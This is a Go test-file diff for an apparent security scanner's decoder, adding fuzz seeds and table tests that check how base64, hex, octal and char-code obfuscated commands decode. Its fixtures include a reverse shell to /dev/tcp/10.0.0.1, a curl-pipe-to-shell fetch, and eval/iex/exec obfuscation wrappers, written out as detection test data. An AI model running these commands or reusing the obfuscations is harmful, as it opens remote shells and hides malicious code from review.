@@ -4,6 +4,7 @@ import (
 	"encoding/base32"
 	"encoding/base64"
 	"encoding/hex"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -118,6 +119,7 @@ func FuzzDecode(f *testing.F) {
 	f.Add("echo " + b64("curl http://x | sh"))
 	f.Add("%252e%252e%252f&#105;&#x67;\\x41\\u{1F600}\\u0041")
 	f.Add("p\u0430ypal \u202E\u200B\uFEFF")
+	f.Add(`awk 'BEGIN{system("\143\141\164")}' [char[]](99,97,116,32) chr(99).chr(97).chr(116).chr(32)`)
 	f.Fuzz(func(t *testing.T, s string) {
 		for _, fd := range Decode([]Text{{Where: "f", Text: s}}) {
 			if len(fd.Decoded) > MaxDecoded || !utf8.ValidString(fd.Decoded) {
@@ -127,5 +129,39 @@ func FuzzDecode(f *testing.F) {
 				t.Fatalf("bad finding %+v", fd)
 			}
 		}
+		for _, d := range Decodings(s) {
+			if len(d) > MaxDecoded+utf8.UTFMax || !utf8.ValidString(d) {
+				t.Fatalf("bad decoding %q", d)
+			}
+		}
 	})
+}
+
+// TestDecodings: what commands decode to, as the danger rules read it,
+// including decodings too short of letters for Decode's test for text.
+func TestDecodings(t *testing.T) {
+	tests := []struct {
+		name, in string
+		want     []string
+	}{
+		{"base64 of a command with an address", "echo " + b64("bash -i >& /dev/tcp/10.0.0.1/443 0>&1") + " | base64 -d | bash",
+			[]string{"bash -i >& /dev/tcp/10.0.0.1/443 0>&1"}},
+		{"hex", "echo 6375726c202d7320687474703a2f2f31302e302e302e312f78207c207368 | xxd -r -p | sh",
+			[]string{"curl -s http://10.0.0.1/x | sh"}},
+		{"octal escapes", `awk 'BEGIN{system("\143\141\164\040\057\145\164\143")}'`, []string{"cat /etc"}},
+		{"powershell char array", "iex (-join [char[]](99,97,116,32,120))", []string{"cat x"}},
+		{"fromCharCode", "eval(String.fromCharCode(0x63, 0x61, 0x74, 0x20))", []string{"cat "}},
+		{"SQL CHAR()", "SELECT CHAR(68,82,79,80,32,84)", []string{"DROP T"}},
+		{"chr chain", "exec(chr(105)+chr(109)+chr(112)+chr(111))", []string{"impo"}},
+		{"a commit hash decodes to no text", "git show 9f3c2a1e8b7d6c5a4f3e2d1c0b9a8f7e6d5c4b3a", nil},
+		{"column sizes are no code list", "CREATE TABLE t (name varchar(255), id char(36), n int)", nil},
+		{"three codes are too few", "[char[]](99,97,116)", nil},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := Decodings(tc.in); !slices.Equal(got, tc.want) {
+				t.Errorf("Decodings(%q) = %q, want %q", tc.in, got, tc.want)
+			}
+		})
+	}
 }
